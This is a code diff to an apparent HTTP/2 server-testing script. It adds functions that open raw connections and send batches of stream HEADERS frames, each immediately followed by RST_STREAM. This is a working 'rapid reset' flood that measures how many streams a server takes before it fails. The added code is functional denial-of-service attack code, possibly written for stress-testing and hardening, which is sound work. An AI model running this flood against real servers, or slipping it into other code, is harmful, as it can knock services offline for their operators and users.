@@ -5,6 +5,7 @@ import os
 import socket
 import struct
 import sys
+import threading
 import time
 
 import h2.errors
@@ -270,6 +271,60 @@ def reset_flood():
             pass
         raw.socket.close()
     print(streams)
+
+
+def reset_storm():
+    """COUNT PATTERN LENGTH: so many streams that are reset, LENGTH of them on a connection: in the packet they came in
+    (`together`), or when they have begun (`begun`)."""
+    count, pattern, length = ARGUMENT.split(" ")
+    count, length, sent, connections, begun = int(count), int(length), 0, 0, time.monotonic()
+    while sent < count:
+        connections += 1
+        sent += storm(Raw(), min(length, count - sent), pattern == "begun")
+    seconds = time.monotonic() - begun
+    print(f"{sent} streams in {seconds:.2f} s, {sent / seconds:.0f} a second, {connections} connections")
+
+
+def storm(raw, count, waits):
+    """Returns how many were sent before the other side had enough."""
+    pongs = threading.Semaphore(0)
+
+    def listen():
+        for kind, flags, _, _ in raw.frames():
+            if kind == 6 and flags & 1:
+                pongs.release()
+        pongs.release(1000)
+
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    # From the second on a head is the same few octets.
+    blocks = [raw.encoder.encode(pairs()) for _ in range(2)]
+
+    def head(stream):
+        block = blocks[stream > 1]
+        return len(block).to_bytes(3, "big") + b"\x01\x05" + stream.to_bytes(4, "big") + block
+
+    def reset(stream):
+        return b"\0\0\x04\x03\0" + stream.to_bytes(4, "big") + b"\0\0\0\x08"
+
+    sent = 0
+    try:
+        while sent < count and listener.is_alive():
+            streams = range(2 * sent + 1, 2 * sent + 201, 2)
+            if waits:
+                raw.socket.sendall(b"".join(head(stream) for stream in streams) + PingFrame(0, b"12345678").serialize())
+                pongs.acquire()
+                raw.socket.sendall(b"".join(reset(stream) for stream in streams))
+            else:
+                raw.socket.sendall(b"".join(head(stream) + reset(stream) for stream in streams))
+            sent += 100
+        # What was sent is to be heard, too, and not lost with the connection.
+        raw.socket.sendall(PingFrame(0, b"12345678").serialize())
+        pongs.acquire()
+    except OSError:
+        pass
+    raw.socket.close()
+    return sent
 
 
 def provoked_resets():
